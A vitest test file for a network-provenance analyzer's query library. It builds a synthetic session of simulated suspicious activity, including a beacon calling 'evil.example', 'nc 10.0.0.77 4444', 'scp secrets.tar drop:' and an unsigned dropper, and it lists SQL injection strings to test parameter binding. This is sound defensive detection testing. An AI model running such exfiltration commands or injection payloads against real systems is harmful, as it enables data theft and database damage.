/**
 * Every named query on one session whose answers are known: it is built event by event, so each
 * expected row below follows from what the test wrote, not from what the analyzer printed.
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyze } from '../../analyzer/analyze.js';
import { query, type Database } from '../../analyzer/db/database.js';
import { namedStatement, queryLibrary, run, writeParquet } from '../../analyzer/query/library.js';
import { formatResult } from '../../analyzer/query/result.js';
import { InputError } from '../../recorder/errors.js';
import { FlowOrigin } from '../../recorder/session/events.js';
import { tcpConversation, udpFrame } from '../helpers/frames.js';
import { netprov } from '../helpers/cli.js';
import { scratch } from '../helpers/paths.js';
import { MS, S, SyntheticSession } from '../helpers/synthetic.js';

const HOST = '10.0.0.1';
let db: Database;
let session: string;
const uids: Record<string, string> = {};

beforeAll(async () => {
  const s = new SyntheticSession('queries.npsession');
  const bash = s.exec(0, 50, 10, '/bin/bash', ['bash']);
  // curl, a child of bash: one download.
  const curl = s.fork(1 * S, bash, 50, 100, 1000);
  s.exec(1 * S + MS, 100, 1000, '/usr/bin/curl', ['curl', 'http://10.0.0.2/']);
  s.socket(2 * S - MS, curl, 6, [HOST, 40000], ['10.0.0.2', 80], FlowOrigin.connect, 'curl-1');
  s.packets(2 * S, tcpConversation(HOST, '10.0.0.2', 40000, 80, 100, 3000));
  s.add({ kind: 'exit', t: 3 * S, key: curl, pid: 100, status: 0 });
  // updater (child of bash) starts beacon (grandchild), which calls home every 10 s after a DNS lookup.
  const updater = s.fork(4 * S, bash, 50, 200, 2000);
  s.exec(4 * S + MS, 200, 2000, '/usr/local/bin/updater', ['updater']);
  const beacon = s.fork(5 * S, updater, 200, 300, 3000);
  s.exec(5 * S + MS, 300, 3000, '/tmp/.beacon', ['.beacon', '--quiet']);
  const dnsQuery = Buffer.from('000101000001000000000000046576696c076578616d706c650000010001', 'hex');
  const dnsAnswer = Buffer.from('000181800001000100000000046576696c076578616d706c650000010001c00c00010001000000780004 0a000042'.replace(/ /g, ''), 'hex');
  s.socket(6 * S - MS, beacon, 17, [HOST, 53000], ['10.0.0.53', 53], FlowOrigin.connect, 'dns-1');
  s.packets(6 * S, [udpFrame(HOST, '10.0.0.53', 53000, 53, dnsQuery), udpFrame('10.0.0.53', HOST, 53, 53000, dnsAnswer)]);
  for (let i = 0; i < 6; i++) {
    const t = (10 + i * 10) * S;
    s.socket(t - MS, beacon, 6, [HOST, 41000 + i], ['10.0.0.66', 8443], FlowOrigin.connect, `beacon-${i}`);
    s.packets(t, tcpConversation(HOST, '10.0.0.66', 41000 + i, 8443, 200, 50));
  }
  // nc lives half a second and reaches a destination nobody else does.
  const nc = s.exec(15 * S, 400, 4000, '/usr/bin/nc', ['nc', '10.0.0.77', '4444']);
  s.socket(15 * S + 100 * MS, nc, 6, [HOST, 42000], ['10.0.0.77', 4444], FlowOrigin.connect, 'nc-1');
  s.packets(15 * S + 101 * MS, tcpConversation(HOST, '10.0.0.77', 42000, 4444, 10, 10), MS);
  s.add({ kind: 'exit', t: 15 * S + 500 * MS, key: nc, pid: 400, status: 0 });
  // scp sends much more than it receives.
  const scp = s.exec(20 * S, 500, 5000, '/usr/bin/scp', ['scp', 'secrets.tar', 'drop:']);
  s.socket(21 * S - MS, scp, 6, [HOST, 43000], ['10.0.0.88', 22], FlowOrigin.connect, 'scp-1');
  s.packets(21 * S, tcpConversation(HOST, '10.0.0.88', 43000, 22, 60000, 100));
  // sshd listens; a client comes in.
  const sshd = s.exec(0, 22, 5, '/usr/sbin/sshd', ['sshd', '-D']);
  s.socket(0, sshd, 6, ['0.0.0.0', 22], ['0.0.0.0', 0], FlowOrigin.listen, 'sshd-listen');
  s.packets(30 * S, tcpConversation('10.0.0.9', HOST, 50000, 22, 10, 10));
  // A flow no sensor event explains, during a loss.
  s.add({ kind: 'loss', t: 35 * S, source: 'bpf-ringbuf', count: 7, reason: 'ring buffer full' });
  s.add({ kind: 'loss', t: 36 * S, source: 'bpf-ringbuf', count: 2, reason: 'ring buffer full' });
  s.packets(35 * S + MS, tcpConversation(HOST, '10.0.0.44', 44000, 9000, 10, 10));
  // A macOS-keyed process without a signing id (as Endpoint Security reports unsigned code).
  s.add({
    kind: 'exec', t: 40 * S, key: '600.7', pid: 600, version: 7, ppid: 1, parentKey: null, uid: 501, path: '/private/tmp/dropper', argv: ['dropper'],
    signingId: null, teamId: null, cdhash: 'ab12', isPlatformBinary: false, formerKey: null,
  });
  s.socket(41 * S - MS, '600.7', 6, [HOST, 45000], ['10.0.0.99', 443], FlowOrigin.contentFilter, 'cf-1');
  s.packets(41 * S, tcpConversation(HOST, '10.0.0.99', 45000, 443, 10, 10));
  session = s.write();
  ({ db } = await analyze([session], { db: null }));
  for (const row of await query(db, 'SELECT uid, resp_p, orig_p FROM flows')) uids[`${row.orig_p}->${row.resp_p}`] = row.uid as string;
});

afterAll(() => db?.close());

async function rows(name: string, params: Record<string, string> = {}): Promise<Record<string, unknown>[]> {
  const result = await run(db, namedStatement(name, params));
  return result.rows.map((r) => Object.fromEntries(r.map((v, i) => [result.columns[i], v])));
}

const pick = (list: Record<string, unknown>[], ...keys: string[]) => list.map((r) => keys.map((k) => r[k]));

describe('the query library', () => {
  it('documents every query: a title, a question, typed parameters', () => {
    const library = queryLibrary();
    expect(library.map((q) => q.name)).toEqual([
      'beaconing', 'dns-name-flows', 'flow-process-chain', 'flows-of-process', 'large-outbound', 'listeners-and-inbound', 'losses-per-source',
      'process-peers', 'rare-destinations', 'short-lived-network-processes', 'timeline', 'unattributed-flows', 'unsigned-network-binaries',
      'who-talked-to',
    ]);
    for (const q of library) {
      expect(q.title, q.name).toMatch(/\.$/);
      expect(q.question, q.name).toMatch(/\?$/);
    }
  });

  it('flows-of-process: a process and all its descendants', async () => {
    expect(pick(await rows('flows-of-process', { process_key: '50@10' }), 'depth', 'exe', 'resp_p')).toEqual([
      [1, '/usr/bin/curl', 80],
      [2, '/tmp/.beacon', 53],
      ...Array.from({ length: 6 }, () => [2, '/tmp/.beacon', 8443]),
    ]);
    expect(await rows('flows-of-process', { process_key: '200@2000' })).toHaveLength(7);
  });

  it('process-peers: everything one process talked to', async () => {
    expect(pick(await rows('process-peers', { process_key: '300@3000' }), 'resp_h', 'resp_p', 'dns_name', 'flows', 'bytes_out', 'bytes_in')).toEqual([
      ['10.0.0.66', 8443, 'evil.example', 6, 1200, 300],
      ['10.0.0.53', 53, null, 1, 30, 46], // a 30-byte query, a 46-byte answer
    ]);
  });

  it('who-talked-to: by address and by DNS name', async () => {
    expect(pick(await rows('who-talked-to', { target: '10.0.0.77' }), 'exe', 'resp_p')).toEqual([['/usr/bin/nc', 4444]]);
    expect(pick(await rows('who-talked-to', { target: 'EVIL.example' }), 'exe')).toEqual(Array.from({ length: 6 }, () => ['/tmp/.beacon']));
  });

  it('unattributed-flows: with the reason', async () => {
    expect(pick(await rows('unattributed-flows'), 'resp_h', 'reason')).toEqual([['10.0.0.44', 'loss-during-flow']]);
  });

  it('rare-destinations: one process, few flows, first contact first', async () => {
    expect(pick(await rows('rare-destinations'), 'resp_h', 'resp_p', 'exe')).toEqual([
      ['10.0.0.2', 80, '/usr/bin/curl'],
      ['10.0.0.53', 53, '/tmp/.beacon'],
      ['10.0.0.77', 4444, '/usr/bin/nc'],
      ['10.0.0.88', 22, '/usr/bin/scp'],
      [HOST, 22, '/usr/sbin/sshd'],
      ['10.0.0.99', 443, '/private/tmp/dropper'],
    ]);
  });

  it('beaconing: six connections ten seconds apart', async () => {
    expect(pick(await rows('beaconing'), 'exe', 'resp_h', 'connections', 'mean_interval_s', 'jitter')).toEqual([['/tmp/.beacon', '10.0.0.66', 6, 10, 0]]);
    expect(await rows('beaconing', { min_connections: '7' })).toEqual([]);
  });

  it('short-lived-network-processes: nc lived 0.5 s', async () => {
    expect(pick(await rows('short-lived-network-processes'), 'path', 'lifetime_s', 'flows', 'destinations')).toEqual([
      ['/usr/bin/nc', 0.5, 1, '10.0.0.77:4444'],
      ['/usr/bin/curl', 1.999, 1, '10.0.0.2:80'],
    ]);
  });

  it('large-outbound: scp sent 60,000 bytes for 100', async () => {
    expect(pick(await rows('large-outbound', { min_bytes: '50000' }), 'exe', 'bytes_out', 'bytes_in', 'ratio')).toEqual([['/usr/bin/scp', 60000, 100, 600]]);
    expect(await rows('large-outbound')).toEqual([]); // the default threshold is 1 MB
  });

  it('dns-name-flows: name -> address -> flows -> process', async () => {
    const found = await rows('dns-name-flows', { pattern: '%.example' });
    expect(found).toHaveLength(6);
    expect(new Set(found.map((r) => `${r.query} ${r.answer} ${r.exe}`))).toEqual(new Set(['evil.example 10.0.0.66 /tmp/.beacon']));
  });

  it('listeners-and-inbound: sshd listened on 22 and one client came in', async () => {
    expect(pick(await rows('listeners-and-inbound'), 'path', 'local_port', 'listening', 'inbound_flows', 'clients')).toEqual([['/usr/sbin/sshd', 22, true, 1, 1]]);
  });

  it('flow-process-chain: from the beacon flow up to bash', async () => {
    expect(pick(await rows('flow-process-chain', { uid: uids['41003->8443'] }), 'depth', 'pid', 'path')).toEqual([
      [0, 300, '/tmp/.beacon'],
      [1, 200, '/usr/local/bin/updater'],
      [2, 50, '/bin/bash'],
    ]);
  });

  it('timeline: what happened in one window', async () => {
    // The synthetic session starts at 1_700_000_000 s = 2023-11-14 22:13:20 UTC.
    const window = await rows('timeline', { from: '2023-11-14 22:13:35', until: '2023-11-14 22:13:36' });
    expect(pick(window, 'what', 'subject')).toEqual([
      ['process start', '400@4000'],
      ['flow', uids['42000->4444']],
      ['process exit', '400@4000'],
    ]);
  });

  it('unsigned-network-binaries: the macOS process without a signing id', async () => {
    expect(pick(await rows('unsigned-network-binaries'), 'process_key', 'path', 'destinations')).toEqual([['600.7', '/private/tmp/dropper', '10.0.0.99:443']]);
  });

  it('losses-per-source: summed per source', async () => {
    expect(pick(await rows('losses-per-source'), 'source', 'lost', 'reports', 'reasons')).toEqual([['bpf-ringbuf', 9, 2, 'ring buffer full']]);
  });
});

describe('query parameters', () => {
  it('are bound, never spliced: injection strings find nothing and change nothing', async () => {
    const before = await query(db, 'SELECT count(*) AS n FROM flows');
    for (const attack of ["x' OR '1'='1", "'; DROP TABLE flows; --", '10.0.0.77\' --', "%' OR 1=1 --"]) {
      expect(await rows('who-talked-to', { target: attack })).toEqual([]);
      expect(await rows('flows-of-process', { process_key: attack })).toEqual([]);
      expect(await rows('dns-name-flows', { pattern: attack })).toEqual([]);
    }
    expect(await query(db, 'SELECT count(*) AS n FROM flows')).toEqual(before);
  });

  it('are checked by name, presence and type, with one-line errors', () => {
    expect(() => namedStatement('who-talked-to', {})).toThrow('query who-talked-to: parameter target is required (an IP address, or a DNS name (case-insensitive))');
    expect(() => namedStatement('who-talked-to', { target: 'x', host: 'y' })).toThrow('query who-talked-to: no parameter host (it takes: target)');
    expect(() => namedStatement('beaconing', { min_connections: 'many' })).toThrow('query beaconing: parameter min_connections must be an integer, not "many"');
    expect(() => namedStatement('nosuch', {})).toThrow('no query named nosuch');
  });

  it("that DuckDB cannot convert are the user's (exit 1); any other failure of a named query is netprov's (exit 2)", async () => {
    await expect(run(db, namedStatement('timeline', { from: 'yesterday', until: '2030-01-01' }))).rejects.toSatisfy(
      (err: Error) => err instanceof InputError && /^query timeline: Conversion Error: .*"yesterday"/.test(err.message),
    );
    const broken = { label: 'query broken', sql: 'SELECT no_such_column FROM flows', values: {}, types: {} };
    await expect(run(db, { ...broken, author: 'netprov' })).rejects.toSatisfy((err: Error) => !(err instanceof InputError) && /^query broken: Binder Error/.test(err.message));
    await expect(run(db, { ...broken, author: 'user' })).rejects.toBeInstanceOf(InputError);
    const cli = netprov(['query', 'timeline', '-p', 'from=yesterday', '-p', 'until=2030-01-01', session]);
    expect([cli.status, cli.stderr.trim().split('\n').length]).toEqual([1, 1]);
  });
});

describe('query output', () => {
  it('writes csv, json, ndjson and a fitted table', async () => {
    const result = await run(db, namedStatement('losses-per-source', {}));
    expect(formatResult(result, 'csv').split('\n')[0]).toBe('session_id,source,lost,reports,first_reported,last_reported,reasons');
    expect(JSON.parse(formatResult(result, 'json'))[0]).toMatchObject({ source: 'bpf-ringbuf', lost: 9 });
    expect(JSON.parse(formatResult(result, 'ndjson').trim())).toMatchObject({ reports: 2 });
    const table = formatResult(result, 'table', 100);
    expect(Math.max(...table.trimEnd().split('\n').map((l) => l.length))).toBeLessThanOrEqual(100);
  });

  it('writes Parquet that DuckDB reads back with the same rows', async () => {
    const out = join(scratch(), 'peers.parquet');
    await writeParquet(db, namedStatement('process-peers', { process_key: '300@3000' }), out);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const back = await query(db, 'SELECT resp_h, flows FROM read_parquet($1) ORDER BY flows DESC', [out]);
    expect(back).toEqual([{ resp_h: '10.0.0.66', flows: 6 }, { resp_h: '10.0.0.53', flows: 1 }]);
  });

  it('runs from the command line, with `sql` for anything else', () => {
    const q = netprov(['query', 'who-talked-to', '-p', 'target=10.0.0.77', session, '-f', 'json']);
    expect(q.stderr).toBe('');
    expect(JSON.parse(q.stdout)).toEqual([expect.objectContaining({ exe: '/usr/bin/nc' })]);
    const sql = netprov(['sql', "SELECT exe, count(*) AS flows FROM flow_details WHERE exe = '/tmp/.beacon' GROUP BY ALL", session, '-f', 'csv']);
    expect(sql.stdout).toBe('exe,flows\n/tmp/.beacon,7\n');
    const bad = netprov(['sql', 'SELECT nonsense FROM nowhere', session]);
    expect(bad.status).toBe(1);
    expect(bad.stderr.trim().split('\n')).toHaveLength(1);
    expect(bad.stderr).toMatch(/^netprov: sql: Catalog Error: Table with name nowhere does not exist/);
    const parquet = netprov(['query', 'losses-per-source', session, '-o', join(scratch(), 'l.parquet')]);
    expect(parquet.status, parquet.stderr).toBe(0);
    void readFileSync;
  });
});
